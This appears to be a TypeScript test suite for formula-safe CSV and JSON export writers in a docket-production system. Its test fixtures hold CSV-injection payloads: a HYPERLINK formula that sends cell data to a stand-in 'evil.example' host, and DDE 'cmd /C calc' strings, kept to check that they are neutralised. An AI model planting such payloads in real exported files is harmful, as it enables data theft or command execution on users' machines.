import { csvCell, csvRow, looksLikeFormula } from '../../server/exports/csv';
import {
  INDEX_FIELDS, dispositionsCsv, indexCsv, indexJson, indexJsonChunks, withheldLogCsv, type IndexHead, type IndexItem,
} from '../../server/exports/index-files';
import { item, parseCsv } from '../helpers/export-items';

/**
 * index.json / index.csv / withheld-log.csv / dispositions.csv (issue 10): one formula-safe cell
 * writer for every CSV (SECURITY.md: `=`, `+`, `-`, `@`, tab, CR at a cell's start, also after
 * leading spaces), and JSON with the documented keys in the documented order.
 */

/** What a spreadsheet would see as a formula: the cell's text, after leading white space, starting with a trigger. */
const spreadsheetWouldEvaluate = (cell: string) => /^[\s\u00a0\u3000]*[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/.test(cell);

const HOSTILE: [string, string][] = [
  ['=1+1', "'=1+1"],
  ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
  ['+1+cmd|\' /C calc\'!A0', "'+1+cmd|' /C calc'!A0"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['\t=1', "'\t=1"],
  ['\r=1', `"'\r=1"`],
  ['\n=1', `"'\n=1"`],
  ['   =1+1', "'   =1+1"],
  [' \t @x', "' \t @x"],
  ['  leading and trailing  ', '"  leading and trailing  "'],
  ['\u00a0=1', "'\u00a0=1"],
  ['\u3000=1', "'\u3000=1"],
  ['\uff1d1+1', "'\uff1d1+1"],
  ['\uff20SUM(A1)', "'\uff20SUM(A1)"],
  ['\ufeff=1', "'\ufeff=1"],
  ['a=1', 'a=1'],
  ['plain, with comma', '"plain, with comma"'],
  ['say "hi"', '"say ""hi"""'],
  ['line\r\nbreak', '"line\r\nbreak"'],
  ['DHS20170037000001', 'DHS20170037000001'],
  ['', ''],
];

describe('the formula-safe cell writer', () => {
  it.each(HOSTILE)('when a cell is %j, then it is written %j', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it('when every hostile cell is written in a row and read back, then no cell would be evaluated and each reads back as apostrophe + the original (or unchanged)', () => {
    const [read] = parseCsv(csvRow(HOSTILE.map(([h]) => h)));
    expect(read).toHaveLength(HOSTILE.length);
    read!.forEach((cell, i) => {
      const original = HOSTILE[i]![0];
      expect(spreadsheetWouldEvaluate(cell)).toBe(false);
      expect(cell).toBe(looksLikeFormula(original) ? `'${original}` : original);
    });
  });

  it('when values are numbers, booleans, dates or null, then they are written as such (a negative number is a number, not a formula)', () => {
    expect(csvRow([-5, 0, 12.5, true, false, null, undefined, new Date(Date.UTC(2026, 0, 2, 3, 4, 5))])).toBe('-5,0,12.5,true,false,,,2026-01-02T03:04:05.000Z\r\n');
    expect(() => csvCell(Number.NaN)).toThrow(/finite/);
  });
});

const HEAD: IndexHead = {
  docket: 'DHS-2017-0037', title: 'Directive 17-01', batesPrefix: 'DHS20170037', scope: 'public', exportId: 'exp-1',
  generatedAt: '2026-12-02T10:00:00.000Z', auditHeadHash: 'f'.repeat(64),
};

describe('index.json', () => {
  it('when written, then it parses, has the documented head and every item with the documented keys in order', () => {
    // Keys built in another order still come out in the documented one.
    const reversed = Object.fromEntries(Object.entries(item()).reverse()) as unknown as IndexItem;
    const items = [reversed, item({ begBates: 'DHS20170037000005', endBates: 'DHS20170037000005', pages: 1, status: 'withheld', sha256Produced: null, producedPath: null, confidentiality: 'confidential', reason: 'confidential material' })];
    const parsed = JSON.parse(indexJson(HEAD, items));
    expect(Object.keys(parsed)).toEqual(['format', 'docket', 'title', 'batesPrefix', 'scope', 'exportId', 'generatedAt', 'auditHeadHash', 'items']);
    expect(parsed.format).toBe('vrp-production/1');
    expect(parsed.items).toHaveLength(2);
    for (const i of parsed.items) expect(Object.keys(i)).toEqual([...INDEX_FIELDS]);
    expect(parsed.items[1]).toMatchObject({ status: 'withheld', sha256Produced: null, reason: 'confidential material' });
  });

  it('when there are no items, or names hold any characters, then it is still valid JSON with the data exact', () => {
    expect(JSON.parse(indexJson(HEAD, [])).items).toEqual([]);
    const name = 'a\u2028b"\\\u0000 \u202egnp.exe 中文 😀';
    expect(JSON.parse(indexJson(HEAD, [item({ documentName: name })])).items[0].documentName).toBe(name);
  });

  it('when streamed, then the chunks are the file: one chunk per item after the head', () => {
    const chunks = [...indexJsonChunks(HEAD, [item(), item()])];
    expect(chunks).toHaveLength(4);
    expect(chunks.join('')).toBe(indexJson(HEAD, [item(), item()]));
  });
});

describe('index.csv, withheld-log.csv and dispositions.csv', () => {
  it('when index.csv is written, then it has a BOM, the JSON item keys as header, one CRLF row per item, and hostile titles neutralised', () => {
    const text = indexCsv([item({ title: '=cmd|"/C calc"!A0', organization: '  @evil', documentName: 'x,y\r\nz' }), item()]);
    expect(text.startsWith('\uFEFF')).toBe(true);
    const rows = parseCsv(text);
    expect(rows[0]).toEqual([...INDEX_FIELDS]);
    expect(rows).toHaveLength(3);
    const row = Object.fromEntries(rows[0]!.map((h, i) => [h, rows[1]![i]]));
    expect(row['title']).toBe('\'=cmd|"/C calc"!A0');
    expect(row['organization']).toBe("'  @evil");
    expect(row['documentName']).toBe('x,y\r\nz');
    expect(row['pages']).toBe('4');
    expect(row['late']).toBe('false');
    expect(row['nativePath']).toBe('');
    for (const r of rows) for (const c of r) expect(spreadsheetWouldEvaluate(c)).toBe(false);
  });

  it('when the withheld log is written, then it has date, author, type, tracking number, id, description and basis, neutralised', () => {
    const rows = parseCsv(withheldLogCsv([
      { date: new Date(Date.UTC(2026, 10, 30)), author: '=Reviewer', type: 'internal note', trackingNumber: 'DHS-2017-0037-000001', id: 'n1', description: 'Internal note on the response', basis: 'Deliberative process privilege' },
      { date: '2026-12-01T00:00:00Z', author: 'Supervisor', type: 'draft disposition', description: '-draft', basis: 'Deliberative' },
    ]));
    expect(rows[0]).toEqual(['date', 'author', 'type', 'trackingNumber', 'id', 'description', 'basis']);
    expect(rows[1]).toEqual(['2026-11-30T00:00:00.000Z', "'=Reviewer", 'internal note', 'DHS-2017-0037-000001', 'n1', 'Internal note on the response', 'Deliberative process privilege']);
    expect(rows[2]).toEqual(['2026-12-01T00:00:00Z', 'Supervisor', 'draft disposition', '', '', "'-draft", 'Deliberative']);
  });

  it('when dispositions are written, then each released disposition is a row with its people, dates and rationale', () => {
    const rows = parseCsv(dispositionsCsv([{
      id: 'd1', trackingNumber: 'DHS-2017-0037-000001', organization: 'Acme', outcome: 'sustained', status: 'issued', issuedAt: new Date(Date.UTC(2026, 11, 1)),
      issuedBy: 'Sam Supervisor', approvedAt: null, approvedBy: 'Ann Approver', rationale: '+The agency agrees.\nFully.',
    }]));
    expect(rows[0]).toEqual(['trackingNumber', 'organization', 'dispositionId', 'outcome', 'status', 'issuedAt', 'issuedBy', 'approvedAt', 'approvedBy', 'supersedesId', 'supersedeReason', 'rationale']);
    expect(rows[1]).toEqual(['DHS-2017-0037-000001', 'Acme', 'd1', 'sustained', 'issued', '2026-12-01T00:00:00.000Z', 'Sam Supervisor', '', 'Ann Approver', '', '', "'+The agency agrees.\nFully."]);
  });
});
